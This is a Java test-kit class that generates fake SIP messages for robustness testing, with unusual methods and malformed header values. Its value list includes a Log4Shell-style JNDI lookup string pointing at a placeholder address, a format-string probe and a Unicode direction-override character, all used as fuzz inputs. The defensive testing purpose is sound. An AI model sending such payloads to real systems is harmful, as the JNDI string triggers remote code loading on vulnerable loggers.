package io.drawbridge.api.testkit;

import java.util.ArrayList;
import java.util.List;

/** Messages of all kinds in both directions, bare, and with headers that no author thinks of. */
public final class OddMessages {
    private static final List<String> METHODS =
            List.of("INVITE", "INFO", "UPDATE", "MESSAGE", "REFER", "NOTIFY", "BYE", "CANCEL", "UNHEARD-OF");
    private static final List<String> VALUES = List.of(
            "", " ", "\"", "<", "<sip:>", "<sip:+15550100@192.0.2.1;user=phone>", "\"a \\\" b\" <tel:+15550100>",
            "sip:%00@[::1]", "anonymous@anonymous.invalid", "${jndi:ldap://192.0.2.1/a}", "%s%n", "\u202e+1555",
            ";".repeat(1000), "a".repeat(8192));

    private OddMessages() {
    }

    /** All of them. */
    public static List<FakeMessage> all() {
        List<FakeMessage> messages = new ArrayList<>();
        for (String method : METHODS) {
            messages.add(FakeMessage.request(method));
            messages.add(FakeMessage.request(method).outbound().trunk("carrier"));
            messages.add(FakeMessage.response(200, method));
            messages.add(FakeMessage.response(699, method).outbound().network(""));
            messages.add(odd(FakeMessage.request(method)));
            messages.add(odd(FakeMessage.response(183, method).outbound()));
        }
        return messages;
    }

    private static FakeMessage odd(FakeMessage message) {
        for (String name : List.of("From", "To", "P-Asserted-Identity", "Privacy", "Diversion", "X-Odd")) {
            VALUES.forEach(value -> message.header(name, value));
        }
        return message;
    }
}
